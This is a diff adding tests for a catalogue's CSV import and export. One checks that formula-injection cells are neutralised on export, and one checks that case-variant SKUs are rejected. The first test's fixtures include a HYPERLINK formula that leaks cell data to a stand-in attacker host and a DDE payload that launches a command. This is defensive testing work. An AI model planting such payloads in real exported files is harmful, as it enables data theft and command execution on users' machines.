@@ -170,3 +170,37 @@ describe('exporting the catalogue', () => {
     expect(await exportCsv()).toBe(first);
   });
 });
+
+describe('formulas in the exported CSV (review N8)', () => {
+  it('writes cells a spreadsheet would run with a leading apostrophe, and imports them back unchanged', async () => {
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const description = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const csv = [
+      header,
+      `csv-formula,"${title.replaceAll('"', '""')}",csv-spices,"${description}",true,100,,,1000.00,1.00,,,5`,
+    ].join('\n');
+    expect((await importCsv(csv, false)).json()).toMatchObject({ applied: true, errors: [] });
+    const exported = await exportCsv();
+    const line = exported.split('\n').find((l) => l.startsWith('csv-formula,'))!;
+    expect(line).toContain(`"'=HYPERLINK(`);
+    expect(line).toContain(`'@SUM(1+1)`);
+    expect(line.split(',').some((cell) => /^"?[=+@-]/.test(cell))).toBe(false);
+    expect((await importCsv(exported, false)).json()).toMatchObject({ applied: true, errors: [] });
+    const kept = await db
+      .selectFrom('products')
+      .select(['title', 'description'])
+      .where('slug', '=', 'csv-formula')
+      .executeTakeFirstOrThrow();
+    expect(kept).toEqual({ title, description });
+  });
+});
+
+describe('SKUs that differ only in case (review N14)', () => {
+  it("refuses a SKU that another product's variant has in other letters", async () => {
+    await makeProductWithVariants(db, [{ label: 'Orange and blue, 6 yards', quantity: 4, sku: 'FAB-ANK-OB-6' }]);
+    const csv = [header, 'csv-case,Case Test,csv-fabrics,,true,,fab-ank-ob-6,6 yards,1000.00,1.00,,,5'].join('\n');
+    const res = await importCsv(csv, false);
+    expect(res.json()).toMatchObject({ errors: [{ message: expect.stringContaining('belongs to a variant of') }] });
+    expect((await snapshot(['csv-case'])).products).toEqual([]);
+  });
+});
